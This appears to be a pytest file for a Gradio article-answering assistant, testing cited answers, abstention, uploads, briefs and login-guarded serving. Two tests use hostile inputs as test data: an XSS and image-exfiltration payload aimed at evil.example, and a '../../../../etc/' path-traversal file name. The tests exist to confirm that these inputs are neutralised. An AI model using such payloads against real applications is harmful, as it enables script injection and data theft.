"""The app: handlers as plain functions on fake models, and the app over HTTP through gradio_client."""

from __future__ import annotations

import json
import socket
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import gradio as gr
import pytest
from matplotlib.figure import Figure
from pydantic import SecretStr
from selectolax.lexbor import LexborHTMLParser as HTMLParser

from assistant import brief_view, render, ui
from assistant.brief_schema import TimelineEvent
from assistant.errors import ConfigError
from assistant.schemas import Answer, Citation, Claim, RetrievalInfo
from assistant.service import Assistant
from assistant.settings import Settings
from tests.conftest import SEED_FILE

DATA = Path(__file__).resolve().parent / "data" / "ui"

QUESTION = "Which areas in southern Lebanon were targeted?"


def _run_chat(bot: Assistant, question: str, turns: list[dict[str, str]] | None = None,
              **filters: Any) -> list[ui.ChatOutputs]:
    return list(ui.chat(bot, question, [], turns or [], filters.get("sources"), filters.get("since"),
                        filters.get("until")))


def test_chat_streams_stages_then_the_checked_answer_with_cards(seeded_bot: Assistant) -> None:
    steps = _run_chat(seeded_bot, QUESTION)
    bubbles = [step[0][-1]["content"] for step in steps]
    assert "Searching the articles" in bubbles[0]
    assert any('class="draft"' in b and "Khiam" in b for b in bubbles[:-1])  # the unchecked draft, shown as such
    assert any("Checking every claim" in b for b in bubbles)
    history, panel, box, turns = steps[-1]
    assert box == "" and [m["role"] for m in history] == ["user", "assistant"]
    bubble = history[1]["content"]
    assert 'class="cite" href="#src-1-1"' in bubble and "Searching" not in bubble
    assert 'id="src-1-1"' in panel and "<mark>" in panel and "Khiam" in panel
    assert 'class="badge ok">supported' in panel
    assert turns[0]["question"] == QUESTION and "[1]" in turns[0]["answer"] and turns[0]["sources"] == panel


def test_a_card_per_chunk_holds_the_quote_highlighted_in_the_chunk(seeded_bot: Assistant) -> None:
    answer = seeded_bot.ask(QUESTION)
    texts = ui.cited_texts(seeded_bot, [c.chunk_id for c in answer.citations])
    panel = render.sources_html(answer, texts, turn=1)
    assert panel.count('<article class="card"') == len({c.chunk_id for c in answer.citations})
    quote = answer.citations[0].quote
    assert f"<mark>{render.esc(quote)}</mark>" in panel
    chunk = texts[answer.citations[0].chunk_id]
    assert len(chunk) > len(quote)  # the card shows the whole chunk, not just the quote


def test_one_number_citing_two_sentences_of_its_chunk_is_one_mark_and_one_anchor() -> None:
    chunk = "Rain flooded Marlow on Tuesday. The mayor said 12 people died. Schools stayed shut."
    cites = [Citation(n=1, article_id="a", title="Floods", chunk_id="a:0", quote=q)
             for q in ("Rain flooded Marlow on Tuesday.", "The mayor said 12 people died.")]
    answer = Answer(question="What happened?", answer="Rain flooded Marlow [1]. Twelve died [1].", abstained=False,
                    citations=cites, model="fake", retrieval=RetrievalInfo(query="What happened?"))
    panel = render.sources_html(answer, {"a:0": chunk}, turn=2)
    assert '<span class="num">[1]</span>' in panel and panel.count('id="src-2-1"') == 1
    assert panel.count("<mark>") == 2


def test_follow_ups_get_this_sessions_history(seeded_bot: Assistant, monkeypatch: pytest.MonkeyPatch) -> None:
    seen: list[object] = []
    real_stream = seeded_bot.ask_stream

    def spy(question: str, **kwargs: Any) -> Iterator[Any]:
        seen.append(kwargs["history"])
        return real_stream(question, **kwargs)

    monkeypatch.setattr(seeded_bot, "ask_stream", spy)
    turns = _run_chat(seeded_bot, "What did Hezbollah launch?")[-1][3]
    _run_chat(seeded_bot, "How many?", turns)
    assert seen[0] == [] and seen[1][0][0] == "What did Hezbollah launch?"
    assert ui.clear_chat() == ([], render.EMPTY_SOURCES, "", [])


def test_clicking_an_earlier_answer_shows_its_sources(seeded_bot: Assistant) -> None:
    turns = _run_chat(seeded_bot, QUESTION)[-1][3]
    turns = _run_chat(seeded_bot, "What is the best recipe for banana bread?", turns)[-1][3]
    first = gr.SelectData(None, {"index": 1, "value": ""})
    assert ui.show_turn_sources(turns, first) == turns[0]["sources"] and "<mark>" in turns[0]["sources"]
    second = gr.SelectData(None, {"index": 3, "value": ""})
    assert "No source passage" in ui.show_turn_sources(turns, second)


def test_abstention_is_shown_as_such_with_its_reason(seeded_bot: Assistant) -> None:
    history, panel, _, turns = _run_chat(seeded_bot, "What is the best recipe for banana bread?")[-1]
    bubble = history[-1]["content"]
    assert "The sources do not say." in bubble and "Why:" in bubble
    assert "No source passage answers this question" in panel and turns[0]["answer"] == "The sources do not say."


def test_filters_limit_the_outlets_and_dates(seeded_bot: Assistant) -> None:
    history = _run_chat(seeded_bot, QUESTION, sources=["Nowhere Daily"])[-1][0]
    assert "The sources do not say." in history[-1]["content"]
    assert ui.parse_filters([ui.ALL_OUTLETS], "2024-01-02", "").sources == ()
    with pytest.raises(gr.Error, match="YYYY-MM-DD"):
        _run_chat(seeded_bot, QUESTION, since="last week")


def test_errors_become_one_line_gradio_errors(seeded_bot: Assistant) -> None:
    with pytest.raises(gr.Error, match="empty"):
        _run_chat(seeded_bot, "   ")
    steps = ui.chat(seeded_bot, "why " * 1000, [{"role": "user", "content": "earlier"}], [])
    history, _, box, turns = next(steps)
    assert history == [{"role": "user", "content": "earlier"}] and box.startswith("why") and turns == []
    with pytest.raises(gr.Error, match="characters long"):
        next(steps)
    with pytest.raises(gr.Error):
        ui.ask_api(seeded_bot, "")


def _answer(text: str, quote: str, chunk_text: str) -> tuple[Answer, dict[str, str]]:
    citation = Citation(n=1, article_id="a", title="<b>T</b>", chunk_id="a:0", quote=quote, source="Outlet")
    claims = [Claim(text="x", label="supported", citations=[1]),
              Claim(text="A planted claim", label="unsupported", removed=True)]
    answer = Answer(question="q", answer=text, abstained=False, citations=[citation], claims=claims, model="fake",
                    retrieval=RetrievalInfo(query="q"))
    return answer, {"a:0": chunk_text}


def test_model_and_article_html_is_neutralised() -> None:
    answer, texts = _answer(
        'Done [1] ![x](http://evil.example/?q=secret) <img src="http://evil.example/p.png"> '
        '<a href="http://evil.example">go</a><script>alert(1)</script>',
        "Quoted <sentence>.", "Before. Quoted <sentence>. <img src=x onerror=alert(1)> After.",
    )
    bubble = render.answer_html(answer, turn=2)
    panel = render.sources_html(answer, texts, turn=2)
    for html in (bubble, panel):
        tree = HTMLParser(html)
        assert not tree.css("img, script, style, iframe")
        assert all(a.attributes.get("href", "#").startswith("#") for a in tree.css("a"))
        assert not [k for node in tree.css("*") for k in node.attributes if k.startswith("on")]
    assert '<a class="cite" href="#src-2-1">[1]</a>' in bubble and "![x](http" in HTMLParser(bubble).text()
    assert "<mark>Quoted &lt;sentence&gt;.</mark>" in panel
    assert "&lt;b&gt;T&lt;/b&gt;" in panel
    assert "removed as unsupported" in panel and "A planted claim" in panel
    assert render.sanitise('<a href="https://x.example/">x</a><a href="#src-1-1">y</a>') == \
        '<a>x</a><a href="#src-1-1">y</a>'


def test_uploads_are_labelled_by_name_never_written_by_it(seeded_bot: Assistant, tmp_path: Path) -> None:
    evil = tmp_path / "a" / "b"
    evil.mkdir(parents=True)
    good = evil / "report.md"
    good.write_text("# Port reopens\n\nThe port of Tyre reopened on Monday after two days of strikes.\n")
    bad = evil / "scan.pdf"
    bad.write_bytes(b"%PDF-1.4")
    big = evil / "big.txt"
    big.write_text("word " * 1_200_000)
    report = HTMLParser(ui.upload(seeded_bot, [_Upload(good, "../../../../etc/report.md"), _Upload(bad),
                                               _Upload(big)])).text()
    assert report.startswith("Added 1 new")
    assert "scan.pdf: unsupported file type '.pdf'" in report and "big.txt: file too large" in report
    assert report.count("Not added") == 2
    stored = {a.title: a for a in seeded_bot.library()}
    assert stored["Port reopens"].path == "upload:report.md"
    assert not (tmp_path / "etc").exists()
    again = HTMLParser(ui.upload(seeded_bot, [_Upload(good, "report.md")])).text()
    assert "0 new, 1 unchanged" in again
    with pytest.raises(gr.Error, match="No file chosen"):
        ui.upload(seeded_bot, [])


class _Upload:
    """What gradio hands a handler for an uploaded file: its temporary path and the name the browser sent."""

    def __init__(self, path: Path, orig_name: str | None = None) -> None:
        self.name, self.orig_name = str(path), orig_name or path.name


def test_library_lists_searches_and_deletes(seeded_bot: Assistant) -> None:
    rows, ids = ui.library_view(seeded_bot)
    assert len(rows) == 1 and rows[0][0].startswith("Israeli strikes") and rows[0][3] >= 2
    assert ui.library_view(seeded_bot, "bekaa")[1] == ids and ui.library_view(seeded_bot, "nothing like it")[1] == []
    status = ui.status_html(seeded_bot)
    assert "1 article · " in status and "fake" in status and "in memory" in status
    assert ui.delete_selected(seeded_bot, ids[0]).startswith("Deleted the article and its")
    assert ui.library_view(seeded_bot)[0] == [] and seeded_bot.is_empty()
    with pytest.raises(gr.Error, match="no stored article"):
        ui.delete_selected(seeded_bot, ids[0])
    with pytest.raises(gr.Error, match="No article selected"):
        ui.delete_selected(seeded_bot, "")


def test_example_questions_come_from_the_stored_articles(seeded_bot: Assistant) -> None:
    questions = seeded_bot.suggested_questions(limit=3)
    assert len(questions) == 3 and all(q.startswith("What do the articles say about") for q in questions)
    seed = SEED_FILE.read_text()
    assert all(q.removeprefix("What do the articles say about ").rstrip("?") in seed for q in questions)


def test_launch_is_loopback_unless_a_login_is_set() -> None:
    assert ui.launch_options(Settings())["server_name"] == "127.0.0.1"
    assert ui.launch_options(Settings())["auth"] is None
    with pytest.raises(ConfigError, match="ASSISTANT_UI_PASSWORD"):
        ui.launch_options(Settings(host="0.0.0.0"))
    guarded = Settings(host="0.0.0.0", ui_user="ed", ui_password="s3cret-pass")
    options = ui.launch_options(guarded)
    assert options["auth"] == ("ed", "s3cret-pass") and options["share"] is False
    assert options["max_file_size"] == 5_000_000
    assert "s3cret-pass" not in repr(guarded)


def test_a_brief_renders_with_cards_chart_and_files(seeded_bot: Assistant) -> None:
    seeded_bot.ingest([DATA])
    html, panel, quality, chart, md_path, json_path, data = ui.brief(seeded_bot, [], "strikes in the Bekaa Valley")
    tree, sources = HTMLParser(html), HTMLParser(panel)
    assert tree.css_first("h3.headline") is not None and sources.css("article.card mark")
    marks = {a.attributes["href"] for a in tree.css("a.cite")}
    cards = {f"#{node.attributes['id']}" for node in sources.css("[id^=src-b-]")}
    assert marks and marks <= cards  # every [n] mark lands on a card
    assert "grounded" in quality and "%" in quality
    assert chart is None or isinstance(chart, Figure)
    assert Path(md_path).read_text().startswith("# ") and json.loads(Path(json_path).read_text()) == data
    assert set(data) >= {"headline", "summary", "key_facts", "timeline", "grounded_fraction", "lint", "provenance"}
    with pytest.raises(gr.Error, match="choose articles"):
        ui.brief(seeded_bot, [], " ")


def test_a_timeline_with_dates_is_drawn(seeded_bot: Assistant) -> None:
    made = seeded_bot.brief([a.id for a in seeded_bot.library()])
    event = {"date": "2024-02-27", "when": "Tuesday", "statement": made.summary[0].model_dump()}
    dated = made.model_copy(update={"timeline": [TimelineEvent.model_validate(event)]})
    figure = brief_view.timeline_figure(dated)
    assert isinstance(figure, Figure) and figure.axes[0].texts[0].get_text().startswith(made.summary[0].text[:20])
    assert brief_view.timeline_figure(made.model_copy(update={"timeline": []})) is None


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


@pytest.fixture
def served(seeded_bot: Assistant) -> Iterator[str]:
    app = ui.build_app(seeded_bot)
    port = _free_port()
    ui.serve(app, seeded_bot.settings, port=port, block=False)
    try:
        yield f"http://127.0.0.1:{port}/"
    finally:
        app.close()


def test_the_app_serves_its_pinned_api_names(served: str, seeded_bot: Assistant, tmp_path: Path) -> None:
    from gradio_client import Client, handle_file

    client = Client(served, verbose=False)
    names = set(client.view_api(print_info=False, return_format="dict")["named_endpoints"])
    assert {"/chat", "/ask", "/brief", "/upload"} <= names
    result = client.predict(QUESTION, api_name="/ask")
    assert result["abstained"] is False and any("Khiam" in c["quote"] for c in result["citations"])
    assert result == json.loads(seeded_bot.ask(QUESTION).model_dump_json())  # what `assistant ask --json` prints
    off = client.predict("What is the best recipe for banana bread?", api_name="/ask")
    assert off["abstained"] is True and off["citations"] == []
    history, panel, box = client.predict(QUESTION, [], [], "", "", api_name="/chat")
    assert "<mark>" in panel and box == "" and 'href="#src-1-1"' in history[-1]["content"][0]["text"]
    html, panel, quality, *_ = client.predict([], "Bekaa Valley strikes", api_name="/brief")
    assert "headline" in html and 'article class="card"' in panel and "grounded" in quality
    note = tmp_path / "note.txt"
    note.write_text("Rescue teams reached the village of Kfar Kila on Tuesday, officials said.\n")
    assert "1 new" in client.predict([handle_file(str(note))], api_name="/upload")


def test_a_login_from_settings_guards_the_app(seeded_bot: Assistant) -> None:
    import httpx
    from gradio_client import Client

    seeded_bot.settings = seeded_bot.settings.model_copy(update={"ui_user": "ed", "ui_password": SecretStr("pw-1")})
    app = ui.build_app(seeded_bot)
    port = _free_port()
    ui.serve(app, seeded_bot.settings, port=port, block=False)
    url = f"http://127.0.0.1:{port}/"
    try:
        assert httpx.get(f"{url}config", timeout=10).status_code == 401
        with pytest.raises(ValueError):
            Client(url, verbose=False, auth=("ed", "wrong"))
        client = Client(url, verbose=False, auth=("ed", "pw-1"))
        assert client.predict(QUESTION, api_name="/ask")["abstained"] is False
    finally:
        app.close()
